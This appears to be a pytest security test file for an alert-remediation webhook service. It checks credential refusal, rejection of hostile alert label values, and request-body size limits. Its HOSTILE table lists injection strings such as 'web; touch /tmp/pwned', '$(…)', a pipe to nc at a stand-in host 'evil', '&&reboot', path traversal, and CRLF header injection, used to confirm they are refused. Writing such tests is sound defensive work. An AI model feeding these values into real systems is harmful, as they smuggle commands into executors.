"""Security: credentials on every state-changing endpoint, hostile label values never
reaching an executor, and request bodies over the limit refused before they are read.

Against a real `remediator serve` whose strategies interpolate alert labels into a real
command's arguments (the command appends what it got to a file), into an HTTP URL and
into an HTTP header (sent to a local recording HTTP server), and into the target. A
safe control alert per strategy shows the wiring works, so that "never ran" means
"refused", not "broken".
"""

from __future__ import annotations

import base64
import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from receiver import breaker
from receiver.alerts import MAX_VALUE_LENGTH
from receiver.store.dispatch import load_breaker, save_breaker
from tests.support.http_server import ScriptedServer, scripted_server
from tests.support.journal import (
    all_actions,
    all_incidents,
    open_journal,
    post_webhook,
    read_runs,
    settle,
    write_recorder,
)
from tests.support.payloads import alert, notification
from tests.support.processes import Running, remediator
from tests.support.receiver import TOKEN, write_config

MAX_BODY = 65536

HOSTILE = {
    "semicolon": "web; touch /tmp/pwned",
    "subshell": "$(touch /tmp/pwned)",
    "backticks": "`id`",
    "pipe": "web|nc evil 9",
    "and": "web&&reboot",
    "redirect": "web>/etc/passwd",
    "glob": "web*",
    "space": "web 1",
    "option": "-rf",
    "quote": "web'\"",
    "traversal": "../../etc/passwd",
    "traversal-inside": "web/../../admin",
    "dotdot": "..",
    "crlf": "web\r\nX-Injected: 1",
    "newline": "web\n",
    "nul": "web\x00evil",
    "oversize": "a" * 254,
    "lookalike": "w\u0435b",  # Cyrillic e
    "percent": "%2e%2e%2fadmin",
    "query": "web?admin=1",
    "empty": "",
}


def security_config(recorder: Path, runs: Path, hook: str) -> str:
    return f"""
server:
  auth: {{bearer_token_file: token}}
  max_body_bytes: {MAX_BODY}
defaults:
  cooldown: 0s
executors:
  local: {{type: command}}
  hook: {{type: http, timeout: 5s, retries: 0}}
strategies:
  - name: run-on-host        # the label is the target and a command argument
    matchers: ['alertname="RunOnHost"']
    action: run
    executor: local
    target: '{{{{ labels.host }}}}'
    command: ['/bin/sh', '{recorder}', '{runs}', 'host={{{{ labels.host }}}}', '0']
  - name: run-with-arg       # the label is only a command argument
    matchers: ['alertname="RunWithArg"']
    action: run
    executor: local
    target: '{{{{ labels.id }}}}'
    command: ['/bin/sh', '{recorder}', '{runs}', 'arg={{{{ labels.host }}}}', '0']
  - name: call-url           # the label is in a URL path
    matchers: ['alertname="CallUrl"']
    action: http
    executor: hook
    target: '{{{{ labels.id }}}}'
    request: {{method: POST, url: '{hook}/restart/{{{{ labels.host }}}}'}}
  - name: call-header        # the label is in a request header
    matchers: ['alertname="CallHeader"']
    action: http
    executor: hook
    target: '{{{{ labels.id }}}}'
    request:
      method: POST
      url: '{hook}/notify/{{{{ labels.id }}}}'
      headers: {{X-Reason: '{{{{ labels.host }}}}'}}
"""


STRATEGIES = {
    "RunOnHost": "run-on-host",
    "RunWithArg": "run-with-arg",
    "CallUrl": "call-url",
    "CallHeader": "call-header",
}


@pytest.fixture(scope="module")
def hook() -> Iterator[ScriptedServer]:
    with scripted_server() as server:
        yield server


@pytest.fixture(scope="module")
def secured(
    tmp_path_factory: pytest.TempPathFactory, hook: ScriptedServer
) -> Iterator[tuple[Running, Any, Path, Path]]:
    workdir = tmp_path_factory.mktemp("security")
    runs = workdir / "runs.log"
    config = write_config(workdir, security_config(write_recorder(workdir), runs, hook.url))
    store_url = f"sqlite:///{workdir / 'journal.db'}"
    with remediator(workdir, config, store_url) as server:
        yield server, open_journal(store_url), runs, config


def authorization_variants() -> dict[str, dict[str, str]]:
    basic = base64.b64encode(f"alertmanager:{TOKEN}".encode()).decode()
    return {
        "none": {},
        "wrong token": {"Authorization": "Bearer not-the-token"},
        "token plus a character": {"Authorization": f"Bearer {TOKEN}x"},
        "token prefix": {"Authorization": f"Bearer {TOKEN[:-1]}"},
        "empty bearer": {"Authorization": "Bearer "},
        "no scheme": {"Authorization": TOKEN},
        "other scheme": {"Authorization": f"Token {TOKEN}"},
        "basic with the token": {"Authorization": f"Basic {basic}"},
        "token in another header": {"X-Token": TOKEN, "Authorization-Bearer": TOKEN},
    }


# ---------------------------------------------------------------- credentials


def test_state_changing_endpoints_refuse_missing_and_wrong_credentials(secured) -> None:
    server, journal, _runs, config = secured
    body = notification(alert("RunWithArg", id="auth-probe", host="web-1"))
    with journal.transaction() as tx:  # an open breaker that only a real reset may close
        opened = breaker.BreakerState(state=breaker.OPEN, consecutive_failures=3, opened_at=1.0)
        save_breaker(tx, "run-with-arg", "auth-target", opened, 1.0)
    sha = requests.get(f"{server.url}/api/v1/status", timeout=5).json()["config_sha256"]
    config.write_text(config.read_text() + "# edited: a reload would change the sha256\n")
    before = journal.counts()
    endpoints = {
        "webhook": ("/webhook", {"json": body}),
        "reload": ("/-/reload", {}),
        "breaker reset": ("/api/v1/breakers/run-with-arg/auth-target/reset", {}),
    }
    for what, (path, kwargs) in endpoints.items():
        for variant, headers in authorization_variants().items():
            response = requests.post(
                f"{server.url}{path}",
                headers=headers,
                params={"token": TOKEN},  # a token in the URL is not a credential
                timeout=10,
                **kwargs,
            )
            assert response.status_code == 401, (what, variant, response.text)
            assert response.headers["WWW-Authenticate"].startswith("Bearer"), (what, variant)
            assert response.json()["status"] == "error"

    # nothing changed: no notification, no reload, breaker still open
    assert journal.counts() == before
    status = requests.get(f"{server.url}/api/v1/status", timeout=5).json()
    assert status["config_sha256"] == sha
    with journal.transaction() as tx:
        assert load_breaker(tx, "run-with-arg", "auth-target").state == breaker.OPEN

    # and each one works with the right credentials (so the 401s were about credentials)
    good = {"Authorization": f"Bearer {TOKEN}"}
    reset = requests.post(
        f"{server.url}/api/v1/breakers/run-with-arg/auth-target/reset", headers=good, timeout=10
    )
    assert reset.status_code == 200, reset.text
    with journal.transaction() as tx:
        assert load_breaker(tx, "run-with-arg", "auth-target").state == breaker.CLOSED
    reloaded = requests.post(f"{server.url}/-/reload", headers=good, timeout=10)
    assert reloaded.status_code == 200, reloaded.text
    assert reloaded.json()["sha256"] != sha
    assert post_webhook(server.url, body).status_code == 200


def test_basic_auth_refuses_wrong_user_password_and_scheme(inprocess) -> None:
    client, store = inprocess(
        "server:\n  auth: {basic_auth: {username: alertmanager, password_file: password}}\n"
    )
    body = json.dumps(notification(alert("Basic", service="b"))).encode()

    def basic(credentials: bytes) -> dict[str, str]:
        return {"Authorization": "Basic " + base64.b64encode(credentials).decode()}

    refused = {
        "none": {},
        "wrong password": basic(b"alertmanager:nope"),
        "wrong user": basic(b"admin:" + TOKEN.encode()),
        "no colon": basic(b"alertmanager" + TOKEN.encode()),
        "empty": basic(b""),
        "not base64": {"Authorization": "Basic !!!not-base64!!!"},
        "bearer instead": {"Authorization": f"Bearer {TOKEN}"},
        "password only": basic(TOKEN.encode()),
    }
    before = store.counts()
    for variant, headers in refused.items():
        for path in ("/webhook", "/-/reload", "/api/v1/breakers/a/b/reset"):
            response = client.post(
                path, data=body, headers={**headers, "Content-Type": "application/json"}
            )
            assert response.status_code == 401, (variant, path)
            assert response.headers["WWW-Authenticate"].startswith("Basic"), (variant, path)
    assert store.counts() == before
    good = basic(f"alertmanager:{TOKEN}".encode())
    response = client.post(
        "/webhook", data=body, headers={**good, "Content-Type": "application/json"}
    )
    assert response.status_code == 200, response.get_json()
    assert store.counts()["notifications"] == before["notifications"] + 1


# ---------------------------------------------------------------- hostile label values


def test_hostile_label_values_never_reach_an_executor(secured, hook: ScriptedServer) -> None:
    server, journal, runs_file, _config = secured
    hook.received.clear()
    already = {a["id"] for a in all_actions(journal)}
    posted = 0
    for alertname, strategy in STRATEGIES.items():
        hostile = [
            alert(alertname, id=f"{strategy}-{name}", host=value, starts_at="2026-07-01T00:00:00Z")
            for name, value in HOSTILE.items()
        ]
        control = alert(
            alertname, id=f"{strategy}-control", host="web-1", starts_at="2026-07-01T00:00:00Z"
        )
        response = post_webhook(server.url, notification(*hostile, control))
        assert response.status_code == 200, response.text
        summary = response.json()
        assert (summary["actions_refused"], summary["actions_planned"]) == (len(HOSTILE), 1)
        posted += len(HOSTILE) + 1

    actions = [a for a in settle(journal, len(already) + posted) if a["id"] not in already]
    assert len(actions) == posted
    label_id = {i["id"]: i["labels"]["id"] for i in all_incidents(journal)}
    hostile = [a for a in actions if not label_id[a["incident_id"]].endswith("-control")]
    controls = {a["strategy"]: a for a in actions if a not in hostile}

    # every hostile one: skipped before it was ever claimed, with a refused: reason
    assert len(hostile) == len(STRATEGIES) * len(HOSTILE)
    for action in hostile:
        where = (label_id[action["incident_id"]], action["status"], action["reason"])
        assert action["status"] == "skipped", where
        assert action["reason"].startswith("refused: "), where
        assert action["started_at"] is None and action["claimed_by"] is None, where
        assert [e["status"] for e in action["events"]] == ["skipped"], where

    # the controls ran, each exactly once, and nothing else reached an executor
    assert set(controls) == set(STRATEGIES.values())
    assert all(a["status"] == "succeeded" for a in controls.values()), controls
    runs = read_runs(runs_file)
    assert {a["id"] for a in hostile} & set(runs.starts) == set()
    commands = [a for a in controls.values() if a["action"] == "run"]
    assert [runs.starts[a["id"]] for a in commands] == [1, 1]
    assert set().union(*(runs.values[a["id"]] for a in commands)) == {"host=web-1", "arg=web-1"}
    assert sorted(r.path for r in hook.received) == [
        "/notify/call-header-control",
        "/restart/web-1",
    ]
    assert [r.headers.get("X-Reason") for r in hook.received if "notify" in r.path] == ["web-1"]
    assert not Path("/tmp/pwned").exists()


def test_nul_in_a_label_no_template_uses_never_reaches_exec(secured) -> None:
    """Labels also travel as ALERT_LABEL_* environment variables; exec cannot carry NUL."""
    server, journal, runs_file, _config = secured
    body = notification(
        alert(
            "RunWithArg",
            id="nul-env",
            host="web-2",
            note="a\x00b",
            starts_at="2026-07-02T00:00:00Z",
        )
    )
    response = post_webhook(server.url, body)
    assert response.status_code == 200 and response.json()["actions_planned"] == 1
    action = next(a for a in settle(journal, 1) if a["target"] == "nul-env")
    # The alert's own data, not a remediation failure: refused, so no breaker counts it.
    assert action["status"] == "skipped"
    assert action["reason"].startswith("refused:") and "NUL" in action["reason"]
    assert read_runs(runs_file).starts[action["id"]] == 0


def test_label_value_over_the_payload_limit_refuses_that_alert_alone(secured) -> None:
    """A label value is the alert's identity: never cut, refused; never its group."""
    server, journal, _runs, _config = secured
    before = journal.counts()
    body = notification(
        alert("RunWithArg", id="too-long", host="w" * (MAX_VALUE_LENGTH + 1)),
        alert("RunWithArg", id="fine", host="web-3"),
    )
    response = post_webhook(server.url, body)
    assert response.status_code == 200
    answer = response.json()
    assert answer["refused"] == 1
    assert [r["field"] for r in answer["rejected"]] == ["alerts[0].labels.host"]
    assert journal.counts()["incidents"] == before["incidents"] + 1  # only "fine"
    settle(journal, before["actions"] + 1)  # its action done: later tests count events
    alone = notification(alert("RunWithArg", id="too-long", host="w" * (MAX_VALUE_LENGTH + 1)))
    refused_whole = post_webhook(server.url, alone)  # nothing of it can be journaled
    assert refused_whole.status_code == 400
    assert refused_whole.json()["field"] == "alerts[0].labels.host"


# ---------------------------------------------------------------- body limits


def raw_request(server: Running, head: str, first: bytes) -> socket.socket:
    host, port = server.url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.sendall(head.encode() + first)
    return sock


def read_status(sock: socket.socket) -> int:
    """The status line of the answer; socket.timeout if the server waits for more body."""
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return int(data.split(b" ", 2)[1])


def head(extra: str) -> str:
    return (
        "POST /webhook HTTP/1.1\r\nHost: remediator\r\n"
        f"Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n{extra}\r\n"
    )


def test_huge_content_length_is_refused_without_waiting_for_the_body(secured) -> None:
    server, journal, _runs, _config = secured
    before = journal.counts()
    sock = raw_request(server, head("Content-Length: 10737418240\r\n"), b'{"alerts": [')
    try:
        assert read_status(sock) == 413  # 10 GiB declared, 12 bytes sent: answered anyway
    finally:
        sock.close()
    assert journal.counts() == before
    assert requests.get(f"{server.url}/-/healthy", timeout=5).status_code == 200


def test_oversize_chunked_body_is_refused_before_its_end(secured) -> None:
    server, journal, _runs, _config = secured
    before = journal.counts()
    sock = raw_request(server, head("Transfer-Encoding: chunked\r\n"), b"")
    try:
        chunk = b"x" * 8192
        for _ in range(MAX_BODY // len(chunk) + 2):  # just past the limit, then stop
            sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
        # the terminating 0-length chunk is never sent: only a server that stops reading
        # at the limit can answer
        assert read_status(sock) == 413
    finally:
        sock.close()
    assert journal.counts() == before
    assert requests.get(f"{server.url}/-/healthy", timeout=5).status_code == 200


def test_body_just_under_the_limit_is_read_and_judged(secured) -> None:
    """The other side of the limit: a body that fits is read whole (and here refused for
    what it says, 400, not for its size)."""
    server, journal, _runs, _config = secured
    before = journal.counts()
    filler = "x" * (MAX_BODY - 200)
    response = requests.post(
        f"{server.url}/webhook",
        data=json.dumps({"alerts": "not a list", "pad": filler}),
        headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"},
        timeout=10,
    )
    assert response.status_code == 400
    assert response.json()["field"] == "alerts"
    assert journal.counts() == before
